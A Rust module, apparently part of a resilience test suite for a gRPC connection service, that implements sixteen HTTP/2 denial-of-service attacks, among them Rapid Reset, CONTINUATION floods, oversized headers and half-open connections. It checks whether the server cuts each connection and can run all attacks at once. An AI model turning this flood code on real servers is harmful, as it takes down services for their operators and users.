//! Attacks on a server, each of a kind that has brought others down.
//!
//! Deliberately absent: what becomes of them; whoever starts one looks.

use std::{net::SocketAddr, ops::ControlFlow, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{Instant, timeout_at},
};
use tokio_stream::StreamExt as _;

use crate::frames::{END_HEADERS, END_STREAM, PREFACE, Raw, call, frame, headers, kind, message};

/// The method that attacks call.
const LIST: &str = "/acquaint.connection.v1.ConnectionService/ListConnections";
/// The method whose streams stay open.
const WATCH: &str = "/acquaint.connection.v1.ConnectionService/WatchConnections";
/// `WatchConnectionsRequest { member_id: "eve" }`.
const WATCH_EVE: &[u8] = &[0x0a, 3, b'e', b'v', b'e'];

/// Attacks of one connection each.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Calls, each given up at once.
    RapidReset,
    /// Calls that are broken, so that the server gives them up.
    ProvokedReset,
    /// More calls than are allowed, none of which ends.
    Streams,
    /// Watches, as many as there can be.
    Watches,
    /// Headers that do not end.
    Continuation,
    /// Calls with more headers than are allowed.
    LargeHeaders,
    /// Pings.
    Pings,
    /// Settings.
    Settings,
    /// Permissions to send a byte more.
    WindowUpdates,
    /// Words about the importance of calls that there are not.
    Priorities,
    /// A call whose message comes in pieces of nothing.
    EmptyData,
    /// A preface that does not go on.
    HalfOpen,
    /// Nothing.
    Silent,
    /// Calls with messages larger than are allowed.
    Oversized,
    /// Calls whose messages end before they should.
    Truncated,
    /// Calls whose messages never end.
    Unfinished,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 16] = [
        Self::RapidReset,
        Self::ProvokedReset,
        Self::Streams,
        Self::Watches,
        Self::Continuation,
        Self::LargeHeaders,
        Self::Pings,
        Self::Settings,
        Self::WindowUpdates,
        Self::Priorities,
        Self::EmptyData,
        Self::HalfOpen,
        Self::Silent,
        Self::Oversized,
        Self::Truncated,
        Self::Unfinished,
    ];

    /// Attacks on one connection until it is ended or `until`; whether it was ended. `rest` is waited for between portions.
    pub async fn run(
        self,
        address: SocketAddr,
        until: Instant,
        mut rest: impl AsyncFnMut(),
    ) -> bool {
        match self {
            Self::HalfOpen | Self::Silent => return self.wait(address, until).await,
            _ => {}
        }
        let Ok(mut raw) = Raw::connect(address, &[]).await else {
            return true;
        };
        let (mut stream, mut portions) = (1, 0_u32);
        while Instant::now() < until {
            let sent = self.portion(&mut stream, portions);
            portions += 1;
            let ControlFlow::Continue(bytes) = sent else {
                break;
            };
            match timeout_at(until, raw.send(&bytes)).await {
                Ok(true) => {}
                Ok(false) => return true,
                // It does not read any more: it is bounded.
                Err(_) => return false,
            }
            rest().await;
        }
        raw.is_ended_within(until.saturating_duration_since(Instant::now()))
            .await
    }

    async fn wait(self, address: SocketAddr, until: Instant) -> bool {
        let Ok(socket) = TcpStream::connect(address).await else {
            return true;
        };
        let begun = match self {
            Self::HalfOpen => PREFACE.split_at(10).0,
            _ => &[],
        };
        let (mut read, mut write) = socket.into_split();
        if write.write_all(begun).await.is_err() {
            return true;
        }
        let mut nothing = Vec::new();
        timeout_at(until, read.read_to_end(&mut nothing))
            .await
            .is_ok()
    }

    /// The next bytes; breaks off when the attack has nothing more to send.
    fn portion(self, stream: &mut u32, portions: u32) -> ControlFlow<(), Vec<u8>> {
        let mut bytes = Vec::new();
        let mut next = || {
            let this = *stream;
            *stream += 2;
            this
        };
        for nth in 0..64 {
            let open = |stream| frame(kind::HEADERS, END_HEADERS, stream, &call(LIST));
            match self {
                Self::RapidReset => {
                    let stream = next();
                    bytes.extend(open(stream));
                    bytes.extend(frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                }
                Self::ProvokedReset => {
                    let stream = next();
                    bytes.extend(open(stream));
                    bytes.extend(frame(kind::WINDOW_UPDATE, 0, stream, &[0, 0, 0, 0]));
                }
                Self::Streams => bytes.extend(open(next())),
                Self::Watches => {
                    if portions > 16 {
                        return ControlFlow::Break(());
                    }
                    let stream = next();
                    let asked = message(5, WATCH_EVE);
                    bytes.extend(frame(kind::HEADERS, END_HEADERS, stream, &call(WATCH)));
                    bytes.extend(frame(kind::DATA, END_STREAM, stream, &asked));
                }
                Self::Continuation => {
                    if portions == 0 && nth == 0 {
                        bytes.extend(frame(kind::HEADERS, 0, next(), &call(LIST)));
                    }
                    let more = headers(&[("x-more", &"x".repeat(100))]);
                    bytes.extend(frame(kind::CONTINUATION, 0, 1, &more));
                }
                Self::LargeHeaders => {
                    let mut block = call(LIST);
                    for _ in 0..120 {
                        block.extend(headers(&[("x-more", &"x".repeat(120))]));
                    }
                    let (first, last) = block.split_at(block.len() / 2);
                    let stream = next();
                    bytes.extend(frame(kind::HEADERS, END_STREAM, stream, first));
                    bytes.extend(frame(kind::CONTINUATION, END_HEADERS, stream, last));
                }
                Self::Pings => bytes.extend(frame(kind::PING, 0, 0, &[7; 8])),
                Self::Settings => bytes.extend(frame(kind::SETTINGS, 0, 0, &[])),
                Self::WindowUpdates => {
                    bytes.extend(frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]));
                }
                Self::Priorities => {
                    bytes.extend(frame(kind::PRIORITY, 0, next(), &[0, 0, 0, 0, 9]));
                }
                Self::EmptyData => {
                    if portions == 0 && nth == 0 {
                        bytes.extend(open(next()));
                    }
                    bytes.extend(frame(kind::DATA, 0, 1, &[]));
                }
                Self::Oversized => {
                    let stream = next();
                    bytes.extend(open(stream));
                    let begun = message(16 << 20, &[7; 200]);
                    bytes.extend(frame(kind::DATA, 0, stream, &begun));
                    // Its window allows no more before it is read.
                    break;
                }
                Self::Truncated => {
                    let stream = next();
                    bytes.extend(open(stream));
                    bytes.extend(frame(
                        kind::DATA,
                        END_STREAM,
                        stream,
                        &message(100, &[7; 10]),
                    ));
                }
                Self::Unfinished => {
                    if portions > 15 {
                        return ControlFlow::Break(());
                    }
                    let stream = next();
                    bytes.extend(open(stream));
                    bytes.extend(frame(kind::DATA, 0, stream, &message(100_000, &[7; 100])));
                }
                Self::HalfOpen | Self::Silent => {}
            }
        }
        ControlFlow::Continue(bytes)
    }
}

/// Goes on with every attack, `each` connections of it at a time, until `until`. `rest` is waited for between portions.
pub async fn besiege<R>(
    address: SocketAddr,
    each: usize,
    until: Instant,
    rest: impl Fn() -> R + Clone,
) where
    R: AsyncFnMut(),
{
    let lines = Attack::ALL.iter().flat_map(|attack| vec![*attack; each]);
    let lines: futures::stream::FuturesUnordered<_> = lines
        .map(|attack| {
            let rest = rest.clone();
            async move {
                while Instant::now() < until {
                    attack.run(address, until, rest()).await;
                    rest()().await;
                }
            }
        })
        .collect();
    lines.collect::<Vec<()>>().await;
}

/// Silent connections, `count` of them, held until dropped.
pub async fn occupy(address: SocketAddr, count: usize) -> Vec<TcpStream> {
    let mut sockets = Vec::new();
    for _ in 0..count {
        let connecting = tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(address));
        if let Ok(Ok(socket)) = connecting.await {
            sockets.push(socket);
        }
    }
    sockets
}
